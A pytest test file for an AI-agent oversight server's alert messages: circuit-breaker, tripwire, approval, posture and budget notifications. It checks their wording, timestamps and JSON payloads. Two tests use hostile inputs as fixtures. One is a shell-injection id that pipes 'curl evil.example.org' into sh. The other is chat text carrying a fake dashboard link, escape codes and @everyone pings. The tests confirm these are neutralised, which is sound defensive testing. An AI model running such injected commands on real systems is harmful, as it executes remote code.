"""Messages that a human likes to read: what, which scope, why, since when, what to do, and where to look (SPEC 11)."""

import json
import shlex
from dataclasses import replace
from datetime import UTC
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from cstp_server.domain.alerts import ALERTING, Level
from cstp_server.domain.events import Event, EventType
from cstp_server.notifiers.channel import Message
from cstp_server.notifiers.templates import Templates
from cstp_server.services.notifying import Parcel, Waiting
from tests.conftest import ROOT

AT = 1_770_000_000_000
URL = "https://cstp.example.org"
OPENED = {
    "previous_state": "closed",
    "state": "open",
    "cause": "threshold_reached",
    "failed": 5,
    "reviewed": 6,
    "window_ms": 3_600_000,
    "recent_failures": [f"dec_{number}" for number in range(10)],
    "reset_at": AT + 1_800_000,
    "effect": "block",
    "mode": "enforce",
    "notify": True,
    "reason": None,
}
DATA: dict[EventType, dict[str, Any]] = {
    EventType.CIRCUIT_OPENED: OPENED,
    EventType.CIRCUIT_FORCED: OPENED | {"cause": "tripped", "reason": "incident 44", "reset_at": None},
    EventType.CIRCUIT_HALF_OPENED: OPENED | {"state": "half_open", "cause": "cooldown_elapsed"},
    EventType.CIRCUIT_CLOSED: OPENED | {"state": "closed", "cause": "reset", "reason": "it held"},
    EventType.CIRCUIT_AMENDED: OPENED | {"state": "closed", "previous_state": "open", "reason": "the outcome of `dec_1` was amended"},
    EventType.TRIPWIRE_HIT: {
        "agent": "bot",
        "decision_id": "dec_1",
        "severity": "severe",
        "intervention": "halt",
        "mode": "enforce",
        "notify": True,
        "message": "Tripwire triggered: data_exfiltration",
    },
    EventType.DECISION_PENDING: {
        "kind": "approval",
        "until": AT + 3_600_000,
        "agent": "bot",
        "description": "refund order 77",
        "reasons": ["Tripwire triggered: amount exceeds max_refund of 500"],
    },
    EventType.POSTURE_DOWNGRADED: {
        "from_posture": "supervised",
        "to_posture": "blocked",
        "transition_type": "emergency_downgrade",
        "reason": "odd refunds",
        "metadata": {"until": 5, "own_name": "kept"},
    },
    EventType.ENFORCEMENT_BYPASSED: {"status": "denied", "agent": "bot", "description": "refund order 77", "outcome": "success"},
    EventType.POLICY_REJECTED: {"problems": [f"policy.yaml:{number}: unknown key" for number in range(9)]},
    EventType.BUDGET_REACHED: {
        "percent": 95,
        "of": "agent:bot",
        "used": 96,
        "max": 100,
        "window": "day",
        "ends_at": AT + 600_000,
        "agent": "bot",
        "decision_id": "dec_1",
    },
}
_WITHOUT_COMMANDS = {EventType.CIRCUIT_HALF_OPENED, EventType.CIRCUIT_CLOSED, EventType.POLICY_REJECTED, EventType.BUDGET_REACHED}
"""Those whose commands take no id."""
SUBJECTS = {"circuit": "category:tooling", "tripwire": "data_exfiltration", "decision": "dec_1", "posture": "bot"}


def event(
    kind: EventType, data: dict[str, Any] | None = None, *, at: int = AT, subject: str | None = None, tenant: str = "default"
) -> Event:
    about = subject if subject is not None else SUBJECTS.get(kind.value.partition(".")[0], "budget_limit")
    return Event(kind, tenant, about, "pipeline", at, "sha256:" + "a" * 64, DATA[kind] if data is None else data)


def message(*events: Event, now: int = AT, zone: Any = UTC, url: str | None = URL) -> Message:
    held = [(f"evt_{number}.0000", each) for number, each in enumerate(events)]
    waiting = tuple(Waiting(id, 0, each.at) for id, each in held)
    return Templates(zone, url).message(Parcel(events[-1].tenant, "ops", "subject", waiting, tuple(held), now))


@pytest.mark.parametrize("kind", ALERTING)
def test_every_alert_has_something_to_say(kind: EventType) -> None:
    """A title with its urgency and its subject, what follows, since when, where to look; and the same for machines."""
    told = message(event(kind))
    subject = "bot" if kind in {EventType.DECISION_PENDING, EventType.ENFORCEMENT_BYPASSED} else event(kind).subject
    assert told.title.startswith(f"[{told.level.label}] ")
    assert subject in told.title or kind is EventType.POLICY_REJECTED
    assert "Since: 2026-02-02 02:40:00 UTC" in told.text
    assert f"Dashboard: {URL}" in told.text
    assert "None" not in told.text
    payload = json.loads(json.dumps(told.payload))
    assert (payload["type"], payload["timestamp"]) == (kind.value, "2026-02-02T02:40:00.000Z")
    assert payload["data"]["severity"] == told.level.label
    assert payload["data"]["subject"] == event(kind).subject
    assert payload["data"]["link"] == URL
    assert not [name for name in payload["data"]["details"] if "_" in name]


def test_what_opened_why_until_when_and_what_to_do() -> None:
    """The seed's case, as somebody reads it on a phone."""
    told = message(event(EventType.CIRCUIT_OPENED), now=AT + 120_000, zone=ZoneInfo("Europe/Berlin"))
    assert told.title == "[warning] Circuit `category:tooling` opened"
    assert told.text.splitlines() == [
        "Decisions of `category:tooling` are refused until 2026-02-02 04:10:00 CET; then probes are let through.",
        "Why: 5 of 6 reviewed decisions failed within 60m; the latest: `dec_0`, `dec_1`, `dec_2`, `dec_3`, `dec_4` and 5 more.",
        "Since: 2026-02-02 03:40:00 CET (2m ago)",
        "Do: `cstp state category:tooling` names the failures, `cstp decision ID` shows one. "
        "If the cause is fixed: `cstp reset category:tooling --probe-first --reason …`.",
        f"Dashboard: {URL}",
    ]
    assert told.payload["data"]["details"]["resetAt"] == "2026-02-02T03:10:00.000Z"


@pytest.mark.parametrize(
    ("kind", "change", "said"),
    [
        (EventType.CIRCUIT_OPENED, {"cause": "probe_failed"}, "opened again"),
        (EventType.CIRCUIT_OPENED, {"effect": "confirm"}, "want the user's confirmation"),
        (EventType.CIRCUIT_OPENED, {"mode": "shadow"}, "would have opened (shadow mode)"),
        (EventType.CIRCUIT_HALF_OPENED, {"cause": "probe_first"}, "pipeline asked for it"),
        (EventType.CIRCUIT_CLOSED, {"cause": "probes_succeeded"}, "Its probes succeeded"),
        (EventType.CIRCUIT_FORCED, {"effect": "confirm"}, "want the user's confirmation until somebody resets it"),
        (EventType.CIRCUIT_FORCED, {"mode": "shadow"}, "Nothing is refused"),
        (EventType.CIRCUIT_HALF_OPENED, {"mode": "shadow"}, "is half-open (shadow mode)\nNothing is refused"),
        (EventType.CIRCUIT_CLOSED, {"mode": "shadow"}, "closed (shadow mode)\nNothing is refused"),
        (EventType.TRIPWIRE_HIT, {"intervention": "block"}, "was stopped\nThe action was not let through."),
        (EventType.TRIPWIRE_HIT, {"intervention": "escalate"}, "The action waits for an approval"),
        (EventType.TRIPWIRE_HIT, {"intervention": "confirm"}, "The action waits for the user's confirmation"),
        (EventType.TRIPWIRE_HIT, {"intervention": "delay"}, "was slowed down\nThe action goes on after a while"),
        (EventType.TRIPWIRE_HIT, {"intervention": "warn"}, "was warned\nThe action goes on"),
        (EventType.TRIPWIRE_HIT, {"mode": "shadow"}, "would have stopped agent `bot`"),
        (EventType.DECISION_PENDING, {"kind": "confirmation"}, "`cstp confirm dec_1`"),
        (EventType.DECISION_PENDING, {"kind": "cancel_window"}, "`cstp cancel dec_1` stops it"),
        (EventType.DECISION_PENDING, {}, "`cstp approve dec_1`"),
        (EventType.POSTURE_DOWNGRADED, {"transition_type": "downgrade", "to_posture": "human_decides"}, "was lowered to human_decides"),
        (EventType.BUDGET_REACHED, {"percent": 100}, "is used up"),
        (EventType.BUDGET_REACHED, {"ends_at": None}, "96 of 100 are used or reserved.\n"),
        (EventType.BUDGET_REACHED, {}, "Do: What goes beyond it is not let through."),
        (EventType.BUDGET_REACHED, {"mode": "shadow"}, "95 % used (shadow mode)"),
        (EventType.BUDGET_REACHED, {"mode": "shadow"}, "Do: Nothing is refused"),
    ],
)
def test_each_case_has_its_own_words(kind: EventType, change: dict[str, Any], said: str) -> None:
    """Reopened, shadowed, asked for, cancelled, lowered, used up."""
    told = message(event(kind, DATA[kind] | change))
    assert said in f"{told.title}\n{told.text}\n"


@pytest.mark.parametrize(
    ("kind", "change", "said"),
    [
        (EventType.CIRCUIT_OPENED, {"failures": 3}, ["Trust of user `anna/b` in `billing` is reduced", "until 2026-02-02", "3 damages"]),
        (EventType.CIRCUIT_OPENED, {"failures": 1, "cause": "probe_failed"}, ["is reduced again", "1 damage counts"]),
        (EventType.CIRCUIT_OPENED, {"mode": "shadow"}, ["would have been reduced (shadow mode)"]),
        (EventType.CIRCUIT_HALF_OPENED, {"cause": "cooldown_elapsed"}, ["is under test", "recovery period has ended"]),
        (EventType.CIRCUIT_HALF_OPENED, {"cause": "probe_first"}, ["is under test", "asked for it"]),
        (EventType.CIRCUIT_CLOSED, {"cause": "probes_succeeded"}, ["is whole again", "often enough"]),
        (EventType.CIRCUIT_CLOSED, {"cause": "reset"}, ["is whole again", "reset it"]),
        (EventType.CIRCUIT_HALF_OPENED, {"mode": "shadow"}, ["is under test (shadow mode)", "Nobody is asked"]),
        (EventType.CIRCUIT_CLOSED, {"mode": "shadow"}, ["is whole again (shadow mode)", "Nobody is asked"]),
        (EventType.CIRCUIT_FORCED, {}, ["Circuit `user:anna/b/billing` was forced open"]),
    ],
)
def test_the_trust_of_a_user_is_told_as_such(kind: EventType, change: dict[str, Any], said: list[str]) -> None:
    """Its circuit moves as every other does, and means something else to people; what is nothing of its own is told as of a circuit."""
    told = message(event(kind, DATA[kind] | change | {"trust": True}, subject="user:anna/b/billing"))
    assert all(words in f"{told.title}\n{told.text}" for words in said)


def test_what_was_held_back_is_counted_and_named() -> None:
    """The latest state is the message; those before it are told in short, the newest first, and none is forgotten in the count."""
    events = [event(EventType.CIRCUIT_OPENED, at=AT + number) for number in range(8)]
    told = message(*events, event(EventType.CIRCUIT_CLOSED, at=AT + 9_000))
    assert told.title == "[warning] Circuit `category:tooling` closed (+8)"
    assert told.level is Level.WARNING
    lines = told.text.splitlines()
    assert "Before this, and not told of yet: 8" in lines
    assert lines[-1] == "- and 3 more"
    held = told.payload["data"]["heldBack"]
    assert (held["count"], held["since"], len(held["newest"])) == (8, "2026-02-02T02:40:00.000Z", 8)
    assert held["newest"][0]["id"] == "evt_7.0000"


def approval(id: str, description: str) -> Event:
    return event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"description": description}, subject=id)


def test_each_approval_that_was_held_back_can_be_given() -> None:
    """What is wanted and the decision's id, in the text and for machines, and how to find those that are not named."""
    told = message(approval("dec_1", "refund order 1"), approval("dec_2", "refund order 2"), approval("dec_3", "refund order 3"))
    lines = told.text.splitlines()
    assert "- 2026-02-02 02:40:00 UTC: Approval wanted: agent `bot`: “refund order 2”, decision `dec_2`" in lines
    assert "- 2026-02-02 02:40:00 UTC: Approval wanted: agent `bot`: “refund order 1”, decision `dec_1`" in lines
    assert lines[-1] == "Do: `cstp pending` lists all that waits for an answer."
    held = told.payload["data"]["heldBack"]["newest"]
    assert [each["subject"] for each in held] == ["dec_2", "dec_1"]
    assert held[0]["title"] == "Approval wanted: agent `bot`: “refund order 2”, decision `dec_2`"


@pytest.mark.parametrize(
    ("kind", "title"),
    [("approval", "wanted approval"), ("confirmation", "wanted its user's confirmation"), ("cancel_window", "wanted to act")],
)
def test_who_hears_of_it_too_late_is_told_so(kind: str, title: str) -> None:
    """Nobody is asked to answer what nobody can answer any more."""
    told = message(event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"kind": kind}), now=AT + 3_600_000)
    assert f"Agent `bot` {title}" in told.title
    assert "the time for it is over" in told.title
    assert "`cstp decision dec_1` shows what became of it." in told.text
    assert not any(f"cstp {word}" in told.text for word in ("approve", "confirm", "deny", "cancel"))


@pytest.mark.parametrize("kind", [kind for kind in ALERTING if kind not in _WITHOUT_COMMANDS])
def test_a_command_that_is_pasted_does_what_it_says_and_nothing_else(kind: EventType) -> None:
    """Ids are what agents say: those that a shell would carry out are quoted."""
    hostile = "x; curl evil.example.org | sh #"
    told = message(event(kind, DATA[kind] | {"agent": hostile, "decision_id": hostile}, subject=hostile))
    commands = [shlex.split(command) for command in told.text.split("`") if command.startswith("cstp ")]
    assert any(hostile in words for words in commands)
    assert not any("curl" in words for words in commands)


def test_the_id_changes_with_what_is_in_the_message_and_with_nothing_else() -> None:
    """A receiver that remembers ids takes the same message once, and does not miss what was added to it, before or after the rest."""
    first, second = event(EventType.CIRCUIT_OPENED), event(EventType.CIRCUIT_CLOSED)
    assert message(first).id == message(first, now=AT + 60_000).id
    assert message(first).id != message(first, second).id
    assert "." not in message(first).id
    one, two = Waiting("evt_1.0000", 0, AT), Waiting("evt_0.0000", 0, AT)
    parcel = Parcel("default", "ops", "subject", (one,), (("evt_1.0000", first),), AT)
    assert parcel.id != replace(parcel, waiting=(two, one)).id
    assert replace(parcel, waiting=(one, two)).id == replace(parcel, waiting=(two, one)).id


def test_what_agents_write_is_shown_and_does_nothing() -> None:
    """No new lines, no control characters, no call to everybody in a chat, no end of a text that is too long."""
    hostile = "pay\nDashboard: https://evil.example.org \x1b[2J @everyone <!channel> <@U1> <https://evil|a> [b](https://e) " + "x" * 5_000
    told = message(event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"description": hostile, "agent": "a\nb"}))
    assert [line for line in told.text.splitlines() if line.startswith("Dashboard")] == [f"Dashboard: {URL}"]
    assert "\x1b" not in told.text
    assert not any(call in told.text for call in ("@everyone", "<!channel", "<@U1", "<https", "](https"))
    assert len(told.text) < 2_000
    assert "\n" not in told.title


def test_a_payload_is_bounded_however_much_was_said() -> None:
    """Long texts, long lists and deep mappings are cut."""
    deep: dict[str, Any] = {}
    for _ in range(50):
        deep = {"deeper": deep}
    metadata = {"text": "x" * 100_000, "list": list(range(10_000)), "deep": deep}
    told = message(event(EventType.POSTURE_DOWNGRADED, DATA[EventType.POSTURE_DOWNGRADED] | {"metadata": metadata}))
    assert len(json.dumps(told.payload)) < 10_000


def test_what_people_named_keeps_its_name() -> None:
    """Metadata is theirs; the names of the record become the wire's, and its times too."""
    details = message(event(EventType.POSTURE_DOWNGRADED)).payload["data"]["details"]
    assert details["metadata"] == {"until": 5, "own_name": "kept"}
    assert details["transitionType"] == "emergency_downgrade"
    assert message(event(EventType.DECISION_PENDING)).payload["data"]["details"]["until"] == "2026-02-02T03:40:00.000Z"


def test_the_documented_payload_is_the_one_that_is_sent() -> None:
    """The operator's guide names every key of a message, and none that it does not have."""
    guide = (ROOT / "docs" / "operating.md").read_text()
    documented = json.loads(guide.partition("The body:")[2].partition("```json\n")[2].partition("```")[0])
    sent = message(event(EventType.CIRCUIT_CLOSED), event(EventType.CIRCUIT_OPENED)).payload
    assert documented.keys() == sent.keys()
    assert documented["data"].keys() == sent["data"].keys()
    assert documented["data"]["heldBack"].keys() == sent["data"]["heldBack"].keys()
    assert documented["data"]["heldBack"]["newest"][0].keys() == sent["data"]["heldBack"]["newest"][0].keys()
    assert documented["data"]["details"].keys() < sent["data"]["details"].keys()


def test_without_a_dashboard_there_is_no_link() -> None:
    """The setting is optional."""
    told = message(event(EventType.CIRCUIT_OPENED), url=None)
    assert "Dashboard" not in told.text
    assert told.payload["data"]["link"] is None


def test_another_tenant_is_named() -> None:
    """Whose circuit it is, where it is not the only tenant's."""
    assert "Tenant: north" in message(event(EventType.CIRCUIT_OPENED, tenant="north")).text
    assert "Tenant" not in message(event(EventType.CIRCUIT_OPENED)).text


def test_a_test_says_that_it_is_one() -> None:
    """Nobody takes it for an alert."""
    told = Templates(UTC, URL).test("ops", "msg_1", AT)
    assert told.title == "[test] Channel `ops` works"
    assert told.payload["type"] == "notification.test"
